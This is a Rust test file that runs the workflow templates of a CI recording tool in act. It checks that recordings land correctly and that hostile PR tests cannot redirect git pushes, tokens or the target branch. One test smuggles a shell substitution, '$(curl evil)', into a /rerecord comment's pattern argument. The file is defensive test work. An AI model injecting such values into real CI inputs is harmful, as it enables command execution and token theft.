//! The workflow templates (`workflows/`) and both actions end to end in a real Actions runner
//! (nektos/act in host mode; see `harness.rs` for what is real and what stands in): a same-repo PR
//! recorded by a matrix of 4 jobs and landed by the workflow's own land job, a fork PR landed by
//! the `workflow_run` companion, a dispatched run recording a PR by number, PRs whose tests attack
//! the steps after them, the push-mode set-up under the same attacks, and a `/rerecord` comment
//! answered by `rerecord-command.yml`.
//!
//! Every file of `workflows/` is in the served project's `.github/workflows/`: to test another
//! template, call `ActWorld::run` (or `run_on`) with its file name and the event it takes.

mod harness;
mod pinning;
pub(crate) mod tools;

use harness::{
    ActRun, ActWorld, BRANCH, COMPANION_WORKFLOW, FORK, PUSH_MODE_WORKFLOW, PUSH_TOKEN,
    RECORD_WORKFLOW, UPSTREAM,
};

use crate::support::fake_github::TOKEN;

/// The recordings the template's default matrix (setups ollama, gpt × suites base, vision)
/// records with tests/act/project's test script: one new file per job in each recordings folder,
/// and the ollama-base job's update of an existing one.
fn expected_recordings() -> Vec<String> {
    let mut want = vec!["M tests/integration/recordings/a.json".to_owned()];
    for setup in ["gpt", "ollama"] {
        for suite in ["base", "vision"] {
            want.push(format!(
                "A tests/integration/agents/recordings/{setup}-{suite}.json"
            ));
            want.push(format!(
                "A tests/integration/recordings/{setup}-{suite}.json"
            ));
        }
    }
    want.sort();
    want
}

fn sorted(mut v: Vec<String>) -> Vec<String> {
    v.sort();
    v
}

/// A world with an open PR and a dispatched recording run for it: (world, PR number, run id).
fn dispatched_pr() -> (ActWorld, u64, u64) {
    let world = ActWorld::new(harness::act_binary(), TOKEN, &[]);
    let pr = world.open_pr();
    let run = world.dispatch_run(pr);
    (world, pr, run)
}

/// The `workflow_dispatch` payload of a dispatch of the recording workflow on `main` for `pr`
/// (with the `head_sha` input when given; the other inputs empty).
fn dispatch_payload(pr: u64, head_sha: Option<&str>) -> serde_json::Value {
    let mut inputs = serde_json::json!({
        "pr_number": pr.to_string(), "subdirs": "", "suite": "", "test-setup": "", "pattern": ""
    });
    if let Some(sha) = head_sha {
        inputs["head_sha"] = sha.into();
    }
    serde_json::json!({
        "inputs": inputs,
        "ref": "refs/heads/main",
        "repository": {"full_name": UPSTREAM, "default_branch": "main"}
    })
}

/// Runs the recording workflow on `main` for the `workflow_dispatch` `payload` as run `run`.
fn run_dispatch(world: &ActWorld, payload: &serde_json::Value, run: u64) -> harness::ActOutcome {
    world.run(ActRun::new(RECORD_WORKFLOW, "workflow_dispatch", payload, run).on("main"))
}

/// Asserts that the record run `record` succeeded without running the land job named
/// `land_job` and without pushing to `repo`.
fn assert_recorded_only(
    world: &ActWorld,
    record: &harness::ActOutcome,
    land_job: &str,
    repo: &str,
) {
    assert_eq!(record.code, 0, "{}", record.tail());
    assert!(
        !record.log.contains(land_job),
        "the record run's land job ran: {}",
        record.tail()
    );
    assert_eq!(
        world.tip(repo),
        world.head,
        "the record jobs pushed: {}",
        record.tail()
    );
}

/// Asserts that the upstream branch's tip is one commit on the PR head holding exactly the
/// expected recordings and that `main` is still at `main`; returns the tip.
fn assert_landed_on_head(world: &ActWorld, main: &str, out: &harness::ActOutcome) -> String {
    let tip = world.tip(UPSTREAM);
    assert_eq!(
        world
            .git_in(UPSTREAM, &["rev-parse", &format!("{tip}^")])
            .trim(),
        world.head,
        "one commit on the PR head: {}",
        out.tail()
    );
    assert_eq!(
        sorted(world.changes(UPSTREAM, &world.head, &tip)),
        expected_recordings()
    );
    assert_eq!(
        world.git_in(UPSTREAM, &["rev-parse", "main"]).trim(),
        main.trim(),
        "main moved"
    );
    tip
}

/// Record a same-repository PR (optionally with attacks in its tests); returns the world and
/// the outcome.
fn record_same_repo_pr(attacks: &[&str]) -> (ActWorld, harness::ActOutcome) {
    let act = harness::act_binary();
    let world = ActWorld::new(act, TOKEN, attacks);
    let (run, pr) = world.pr_run(UPSTREAM);
    let event = world.pr_event(pr, UPSTREAM);
    let out = world.run(ActRun::new(RECORD_WORKFLOW, "pull_request", &event, run));
    (world, out)
}

#[test]
fn same_repo_pr_records_in_a_matrix_of_4_and_its_land_job_puts_exactly_the_recordings_on_the_tip() {
    let (world, out) = record_same_repo_pr(&[]);

    assert_eq!(out.code, 0, "{}", out.tail());
    // Four record jobs, each uploading its own artifact; then the land job.
    let uploads = out.uploads();
    assert_eq!(uploads, 4, "{}", out.tail());
    let tip = world.tip(UPSTREAM);
    assert_ne!(tip, world.head, "nothing landed: {}", out.tail());
    // One commit on top of the PR head, holding exactly the recordings.
    assert_landed_on_head(&world, &world.git_in(FORK, &["rev-parse", "main"]), &out);
}

#[test]
fn fork_pr_uploads_artifacts_and_the_companion_lands_them_on_the_fork_branch() {
    let act = harness::act_binary();
    // Only the maintainer's token may push to the fork; the job token reads, and writes only the
    // upstream.
    let world = ActWorld::new(act, PUSH_TOKEN, &[]);
    let (run, pr) = world.pr_run(FORK);
    let event = world.pr_event(pr, FORK);

    let record = world.run(ActRun::new(RECORD_WORKFLOW, "pull_request", &event, run));

    // The land job's `if:` is false for a fork PR: act never starts it.
    assert_recorded_only(&world, &record, "Land recordings", FORK);

    // The run completed; GitHub starts the companion on the default branch.
    world.fake.complete_run(UPSTREAM, run, "success");
    let payload = serde_json::json!({
        "action": "completed",
        "workflow_run": {
            "id": run,
            "name": "Record integration tests",
            "event": "pull_request",
            "status": "completed",
            "conclusion": "success",
            "head_branch": BRANCH,
            "head_sha": world.head,
            "head_repository": {"full_name": FORK},
            "repository": {"full_name": UPSTREAM},
            "pull_requests": []
        },
        "repository": {"full_name": UPSTREAM, "default_branch": "main"}
    });
    let companion_run = run + 1000;
    let land = world.run(
        ActRun::new(COMPANION_WORKFLOW, "workflow_run", &payload, companion_run)
            .secrets(&[("RERECORD_PUSH_TOKEN", PUSH_TOKEN)]),
    );

    assert_eq!(land.code, 0, "{}", land.tail());
    let tip = world.tip(FORK);
    assert_ne!(
        tip,
        world.head,
        "nothing landed on the fork: {}",
        land.tail()
    );
    assert_eq!(
        sorted(world.changes(FORK, &world.head, &tip)),
        expected_recordings()
    );
    assert_eq!(
        world.tip(UPSTREAM),
        world.head,
        "the upstream's copy of the branch moved"
    );
    // One sticky comment on the PR says what landed.
    let comments = world.fake.comments(UPSTREAM, pr);
    assert_eq!(comments.len(), 1, "{comments:?}");
    assert!(
        comments[0].1.starts_with("<!-- rerecord:land -->"),
        "{comments:?}"
    );
}

/// What must hold whatever a PR's tests tried: nothing reached the PR's server, main did not
/// move, and whatever landed on the PR's branch is recordings only, committed by rerecord.
fn assert_nothing_steered(world: &ActWorld, out: &harness::ActOutcome) -> Vec<String> {
    assert_eq!(
        world.evil.requests(),
        Vec::<String>::new(),
        "the PR's server was contacted: {}",
        out.tail()
    );
    assert_eq!(
        world.git_in(UPSTREAM, &["rev-parse", "main"]),
        world.git_in(FORK, &["rev-parse", "main"]),
        "main moved: {}",
        out.tail()
    );
    let tip = world.tip(UPSTREAM);
    let changes = sorted(world.changes(UPSTREAM, &world.head, &tip));
    let recordings = expected_recordings();
    for change in &changes {
        assert!(
            recordings.contains(change),
            "a non-recording change landed: {change} ({changes:?})"
        );
    }
    if tip != world.head {
        let author = world.git_in(UPSTREAM, &["log", "-1", "--format=%an <%ae>|%cn", &tip]);
        assert!(!author.contains("Mallory"), "{author}");
    }
    changes
}

#[test]
fn pr_tests_rewriting_config_git_remotes_and_identity_steer_nothing_and_the_recordings_land() {
    let (world, out) = record_same_repo_pr(&["config"]);

    let changes = assert_nothing_steered(&world, &out);
    assert_eq!(out.code, 0, "{}", out.tail());
    // The committed config (the defaults) decided what a recording is, not the work tree's.
    assert_eq!(changes, expected_recordings(), "{}", out.tail());
}

#[test]
fn pr_tests_rewriting_the_event_payload_head_ref_push_nothing_to_main() {
    let (world, out) = record_same_repo_pr(&["payload"]);

    // The payload now names main: every record job sees it differ from the runner's
    // GITHUB_HEAD_REF and refuses, so nothing lands anywhere (main and the PR's branch alike).
    let changes = assert_nothing_steered(&world, &out);
    assert_eq!(out.code, 1, "{}", out.tail());
    // act's own step lines are reliable; a step's last output lines can be lost when the step
    // ends before act has read them (seen under load), so the reason must show at least once.
    let count = |needle: &str| out.log.lines().filter(|l| l.contains(needle)).count();
    assert_eq!(
        count("❌  Failure - Main Commit recordings"),
        4,
        "every record job's commit step fails: {}",
        out.tail()
    );
    assert_eq!(
        count("Job succeeded"),
        1,
        "only the plan job: {}",
        out.tail()
    );
    assert!(
        count("error: refusing to commit: the event payload's pull_request.head.ref differs") >= 1,
        "{}",
        out.tail()
    );
    assert_eq!(changes, Vec::<String>::new(), "{}", out.tail());
}

#[test]
fn dispatched_run_recording_a_pr_by_number_lands_on_that_prs_branch_not_on_main() {
    let (world, pr, run) = dispatched_pr();
    let payload = dispatch_payload(pr, None);
    let main_before = world.git_in(UPSTREAM, &["rev-parse", "main"]);

    let out = run_dispatch(&world, &payload, run);

    assert_eq!(out.code, 0, "{}", out.tail());
    assert_landed_on_head(&world, &main_before, &out);
}

#[test]
fn push_mode_jobs_push_only_recordings_and_the_token_never_goes_where_the_prs_config_points() {
    let act = harness::act_binary();
    let world = ActWorld::new(act, TOKEN, &["config"]);
    let (run, pr) = world.pr_run(UPSTREAM);
    let event = world.pr_event(pr, UPSTREAM);

    let out = world.run(ActRun::new(PUSH_MODE_WORKFLOW, "pull_request", &event, run));

    // The tests rewrote origin, pushurl, insteadOf (repository and $HOME), include.path, user.*
    // and rerecord.toml before the push: the token went only to GITHUB_SERVER_URL.
    let changes = assert_nothing_steered(&world, &out);
    assert_eq!(out.code, 0, "{}", out.tail());
    // Four jobs pushed one commit each onto the moving tip.
    assert_eq!(changes, expected_recordings(), "{}", out.tail());
    let tip = world.tip(UPSTREAM);
    let range = format!("{}..{tip}", world.head);
    assert_eq!(
        world
            .git_in(UPSTREAM, &["rev-list", "--count", &range])
            .trim(),
        "4"
    );
}

#[test]
fn a_rerecord_sha_comment_by_a_writer_dispatches_the_recording_in_the_upstream_with_the_pr_and_that_sha()
 {
    let act = harness::act_binary();
    let world = ActWorld::new(act, TOKEN, &[]);
    let fake = &world.fake;
    // What the command reads through the API: the recording workflow on the default branch
    // (it takes pr_number, so the run goes to the upstream) and the PR.
    let template = std::fs::read_to_string(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("workflows")
            .join(RECORD_WORKFLOW),
    )
    .unwrap();
    let main = world
        .git_in(UPSTREAM, &["rev-parse", "main"])
        .trim()
        .to_owned();
    fake.set_branch(UPSTREAM, "main", &main);
    fake.add_workflow_file(UPSTREAM, RECORD_WORKFLOW, &["main"], &template);
    let pr = world.open_pr();
    fake.set_role(UPSTREAM, "maint", "write");
    // The approving comment names the reviewed head in full.
    let body = format!(
        "/rerecord --sha {} agents --setup vllm -k \"test_streaming and $(curl evil)\"",
        world.head
    );
    let (comment, payload) = fake.comment_event(UPSTREAM, pr, "maint", "MEMBER", &body);

    let out =
        world.run(ActRun::new("rerecord-command.yml", "issue_comment", &payload, 4242).on("main"));

    assert_eq!(out.code, 0, "{}", out.tail());
    let runs: Vec<_> = fake
        .runs(UPSTREAM)
        .into_iter()
        .filter(|r| r.spec.event == "workflow_dispatch")
        .collect();
    assert_eq!(runs.len(), 1, "{}", out.tail());
    assert_eq!(runs[0].spec.head_branch, "main");
    let inputs = &runs[0].inputs;
    assert_eq!(inputs["pr_number"], pr.to_string());
    assert_eq!(inputs["head_sha"], world.head);
    assert_eq!(inputs["subdirs"], "agents");
    assert_eq!(inputs["test-setup"], "vllm");
    assert_eq!(inputs["pattern"], "test_streaming and $(curl evil)");
    let reactions: Vec<String> = fake
        .reactions(UPSTREAM, comment)
        .into_iter()
        .map(|(content, _)| content)
        .collect();
    assert_eq!(reactions, ["eyes", "rocket"], "{}", out.tail());
}

#[test]
fn an_init_written_workflow_records_a_same_repo_pr_and_lands_exactly_the_recordings() {
    let act = harness::act_binary();
    let mut world = ActWorld::new(act, TOKEN, &[]);
    let seeded = world.head.clone();
    world.rewrite_workflows_with_init();
    let written = world.git_in(
        UPSTREAM,
        &[
            "show",
            &format!("{BRANCH}:.github/workflows/{RECORD_WORKFLOW}"),
        ],
    );
    assert!(written.contains(&format!("rerecord/rerecord@{}", harness::INIT_PIN)));
    assert!(!written.contains(&"0".repeat(40)));
    // The three templates rewritten in place (pinned), the test-only push-mode variant gone.
    assert_eq!(
        sorted(world.changes(UPSTREAM, &seeded, &world.head)),
        vec![
            "D .github/workflows/record-push-mode.yml",
            "M .github/workflows/commit-recordings.yml",
            "M .github/workflows/record-integration-tests.yml",
            "M .github/workflows/rerecord-command.yml",
        ]
    );
    let (run, pr) = world.pr_run(UPSTREAM);
    let event = world.pr_event(pr, UPSTREAM);
    let out = world.run(ActRun::new(RECORD_WORKFLOW, "pull_request", &event, run));
    assert_eq!(out.code, 0, "{}", out.tail());
    let tip = world.tip(UPSTREAM);
    assert_ne!(tip, world.head, "nothing landed: {}", out.tail());
    assert_eq!(
        sorted(world.changes(UPSTREAM, &world.head, &tip)),
        expected_recordings()
    );
}
